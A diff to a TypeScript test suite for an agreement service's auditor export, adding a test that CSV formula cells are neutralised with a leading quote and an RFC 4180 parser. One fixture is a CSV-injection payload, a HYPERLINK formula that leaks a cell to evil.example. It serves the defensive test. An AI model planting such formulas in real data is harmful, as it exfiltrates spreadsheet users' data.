@@ -1,8 +1,9 @@
 import { execFile } from 'node:child_process';
 import { writeFileSync } from 'node:fs';
 import { promisify } from 'node:util';
-import { activeMou, cast, expectStatus, LOCATIONS } from '../support/agreement-scenarios';
-import { storedEventCount } from '../support/http-client';
+import { activeMou, cast, draftMou, expectStatus, LOCATIONS, sha256 } from '../support/agreement-scenarios';
+import { KEMENDES } from '../support/domain/officials';
+import { callerFor, storedEventCount } from '../support/http-client';
 import { startTestApp, type TestApp } from '../support/test-app';
 import { temporaryDirectory, type TemporaryDirectory } from '../support/temporary-directory';
 
@@ -101,6 +102,34 @@ describe('the auditor’s side', () => {
     }
   });
 
+  it('neutralises CSV cells a spreadsheet would run as formulas, and the verifier still verifies the export', async () => {
+    // Names come from tokens, which users can often edit at their identity provider.
+    const names = ['=HYPERLINK("http://evil.example/?leak="&A1,"Klik")', '+62 811 555', '-1+1', '@SUM(A1:A9)', "'=quoted already"];
+    const { id: target } = await draftMou(people);
+    for (const [index, name] of names.entries()) {
+      const official = await callerFor(service, { sub: `${name.charAt(0)}official-${index}`, name, agency: KEMENDES, roles: ['DRAFTER'] });
+      expectStatus(await official.act(target, 'attach-document', { type: 'KAK', sha256: sha256(name), name: `kak-${index}.pdf` }), 200);
+    }
+
+    const response = await people.auditor.get(`/agreements/${target}/export?format=csv`);
+
+    expectStatus(response, 200);
+    const [header, ...rows] = csvRows(response.body);
+    const column = (name: string) => rows.map((row) => row[header!.indexOf(name)]!);
+    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(response.body.split('\r\n').filter(Boolean).every((line) => line.startsWith('"') && line.endsWith('"'))).toBe(true);
+    expect(column('actor_name').slice(-names.length)).toEqual(names.map((name) => `'${name}`));
+    expect(column('actor_id').slice(-names.length)).toEqual(names.map((name, index) => `'${name.charAt(0)}official-${index}`));
+    // Taking one leading quote away restores every value exactly, as the JSON export holds it.
+    const json = (await people.auditor.get(`/agreements/${target}/export?format=json`)).json<{ events: Array<{ metadata: { actor: { name: string } } }> }>();
+    expect(column('actor_name').map((cell) => (cell.startsWith("'") ? cell.slice(1) : cell))).toEqual(json.events.map((event) => event.metadata.actor.name));
+
+    const file = files.file('formulas.csv');
+    writeFileSync(file, response.body);
+    const { stdout } = await run(process.execPath, ['scripts/verify-export.mjs', file]);
+    expect(stdout).toMatch(new RegExp(`^OK agreement-${target}: ${2 + names.length} events, hash chain intact`));
+  });
+
   it('records who read what, for auditors and administrators to see', async () => {
     const reads = await people.auditor.get(`/audit/reads?agreementId=${id}&limit=50`);
 
@@ -142,3 +171,30 @@ describe('the auditor’s side', () => {
     });
   });
 });
+
+/** The rows of an RFC 4180 text: quoted cells may hold commas, doubled quotes and line breaks. */
+function csvRows(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i += 1) {
+    const c = text[i]!;
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') {
+        cell += '"';
+        i += 1;
+      } else if (c === '"') quoted = false;
+      else cell += c;
+    } else if (c === '"') quoted = true;
+    else if (c === ',') {
+      row.push(cell);
+      cell = '';
+    } else if (c === '\n') {
+      rows.push([...row, cell]);
+      row = [];
+      cell = '';
+    } else if (c !== '\r') cell += c;
+  }
+  return rows;
+}
